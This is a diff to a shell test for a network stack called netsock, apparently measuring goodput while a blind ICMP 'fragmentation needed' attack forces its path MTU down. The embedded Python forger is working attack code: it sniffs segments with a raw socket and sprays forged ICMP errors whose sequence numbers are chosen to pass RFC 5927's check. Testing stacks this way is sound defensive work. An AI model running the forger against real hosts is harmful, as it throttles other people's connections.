@@ -8,11 +8,12 @@
 #   1. curl GET /bytes/N from `netsock host --offload off`: the goodput
 #      without the attack;
 #   2. the same transfer while a raw socket in the namespace reads
-#      netsock's segments off the TAP and answers each of a few with a
-#      burst of forged ICMP type 3 code 4, next-hop MTU 100, quoting its IP
+#      netsock's segments off the TAP and answers the latest with a burst
+#      of forged ICMP type 3 code 4, next-hop MTU 100, quoting its IP
 #      header and its TCP ports with sequence numbers from its own up to
-#      1 MiB past it (one lies in flight, so RFC 5927's check passes, as
-#      for a blind attacker): the SHA-256 is right, netsock counted the
+#      8 MiB past it (one lies in flight, so RFC 5927's check passes, as
+#      for a blind attacker), round after round until netsock's segments
+#      shrink: the SHA-256 is right, netsock counted the
 #      reports (tcp_pmtu_updates), and the data segments it sent (captured
 #      on the TAP) carry 500 bytes from then on (Linux min_pmtu 552, less
 #      headers and timestamps), under 1 % of them fewer than 100 — before,
@@ -58,13 +59,12 @@ goodput "no attack" "$N" 0 "$base"
 
 log "2. GET /bytes/$N with forged ICMP frag-needed, MTU 100"
 cat >"$TMP/forge.py" <<'EOF'
-# Read netsock's segments off the TAP (kernel side), answer a few with
-# ICMP destination unreachable / fragmentation needed, next-hop MTU 100.
+# Read netsock's segments off the TAP (kernel side) and answer the latest
+# with a burst of ICMP destination unreachable / fragmentation needed,
+# next-hop MTU 100, until netsock's data segments come at most 552 bytes
+# long (or 30 s pass); print the rounds and whether they took.
 import socket, struct, sys, time
-dev, src, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
-sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
-sniff.bind((dev, 0))
-sniff.settimeout(30)
+dev, src = sys.argv[1], sys.argv[2]
 icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
 
 def csum(b):
@@ -75,31 +75,47 @@ def csum(b):
         s = (s & 0xffff) + (s >> 16)
     return ~s & 0xffff
 
-sent, deadline = 0, time.time() + 60
-while sent < count and time.time() < deadline:
-    frame = sniff.recv(65535)
-    ip = frame[14:]
-    if len(ip) < 40 or ip[9] != 6 or socket.inet_ntoa(ip[12:16]) != src:
-        continue
-    ihl = (ip[0] & 15) * 4
-    if struct.unpack("!H", ip[2:4])[0] - ihl - (ip[ihl + 12] >> 4) * 4 < 1000:
-        continue  # a data segment, not an ACK
-    # The segment is acknowledged within microseconds on this link: quote
-    # it and sequence numbers up to 1 MiB past it, so that one lies in
-    # flight (SND.UNA..SND.NXT) when the error arrives, as a blind
-    # attacker would.
-    seq = struct.unpack("!I", ip[ihl + 4:ihl + 8])[0]
-    for k in range(64):
-        tcp8 = ip[ihl:ihl + 4] + struct.pack("!I", (seq + k * 16384) & 0xffffffff)
-        body = struct.pack("!BBHHH", 3, 4, 0, 0, 100) + ip[:ihl] + tcp8
+def data_segments(sniff):
+    # netsock's TCP segments with payload: (IP header, 8 TCP bytes, IP length)
+    while True:
+        ip = sniff.recv(65535)[14:]
+        if len(ip) < 40 or ip[9] != 6 or socket.inet_ntoa(ip[12:16]) != src:
+            continue
+        ihl = (ip[0] & 15) * 4
+        total = struct.unpack("!H", ip[2:4])[0]
+        if total - ihl - (ip[ihl + 12] >> 4) * 4 > 0:
+            yield ip[:ihl], ip[ihl:ihl + 8], total
+
+rounds, took, deadline = 0, False, time.time() + 30
+while not took and time.time() < deadline:
+    # A fresh socket each round: its first segment is the newest one.
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+    sniff.bind((dev, 0))
+    sniff.settimeout(5)
+    segs = data_segments(sniff)
+    iph, tcp8, total = next(segs)
+    # Acknowledged within microseconds on this link: quote sequence numbers
+    # from this one to 8 MiB past it, so that one lies in flight
+    # (SND.UNA..SND.NXT) when the error arrives, as a blind attacker would.
+    seq = struct.unpack("!I", tcp8[4:8])[0]
+    for k in range(1024):
+        q = tcp8[:4] + struct.pack("!I", (seq + k * 8192) & 0xffffffff)
+        body = struct.pack("!BBHHH", 3, 4, 0, 0, 100) + iph + q
         body = body[:2] + struct.pack("!H", csum(body)) + body[4:]
         icmp.sendto(body, (src, 0))
-    sent += 1
+    rounds += 1
     time.sleep(0.2)
-print("forged", sent)
+    small = 0
+    for _ in range(200):
+        small = small + 1 if next(segs)[2] <= 552 else 0
+        if small >= 20:
+            took = True
+            break
+    sniff.close()
+print("forged rounds", rounds, "took" if took else "did not take")
 EOF
 nsk_capture attack "$TAP" 96
-in_ns python3 "$TMP/forge.py" "$TAP" "$NETSOCK_IP" 5 >"$TMP/forge.log" 2>&1 &
+in_ns python3 "$TMP/forge.py" "$TAP" "$NETSOCK_IP" >"$TMP/forge.log" 2>&1 &
 FORGER=$!
 NSK_PIDS+=("$FORGER")
 sleep 0.3
@@ -121,7 +137,7 @@ done
 wait "$CURL" || fail "curl under attack: exit status $?"
 t1=$(nsk_now)
 cat "$TMP/forge.log"
-grep -q "^forged [1-9]" "$TMP/forge.log" || fail "the forger sent nothing"
+grep -q "^forged rounds [1-9]" "$TMP/forge.log" || fail "the forger sent nothing"
 got=$(sha <"$TMP/attacked.out")
 [ "$got" = "$want" ] || fail "under attack: sha256 $got, want $want"
 attacked=$(awk -v a="$t0" -v b="$t1" 'BEGIN { printf "%.3f\n", b - a }')
